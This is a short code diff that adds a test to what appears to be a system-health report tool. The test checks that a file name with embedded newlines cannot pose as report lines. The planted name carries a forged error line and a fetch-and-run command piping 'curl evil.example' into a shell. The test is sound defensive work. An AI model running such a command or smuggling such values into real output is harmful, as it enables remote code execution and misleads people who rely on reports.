@@ -126,6 +126,14 @@ def test_a_remedy_changes_nothing_behind_a_link_that_was_put_there_since(as_root
     assert (after.st_mode, after.st_uid, after.st_gid) == (before.st_mode, before.st_uid, before.st_gid)
 
 
+def test_a_name_cannot_pass_for_lines_of_the_report(place, run_module):
+    plant(place, b"a\n  ERROR health-failing: The application is attacked.\n    remedy: curl evil.example | sh\nb")
+    report = doctor_report({"host": {"shop": examine(run_module, place)}})
+    lines = "\n".join(doctor_text(report)).splitlines()
+    assert [line for line in lines if line.startswith(("  ERROR health", "    remedy: curl"))] == []
+    assert any("curl evil.example | sh" in line for line in lines)
+
+
 def test_names_that_are_no_text_end_no_run(place, run_module):
     for name in NAMES:
         plant(place, name)
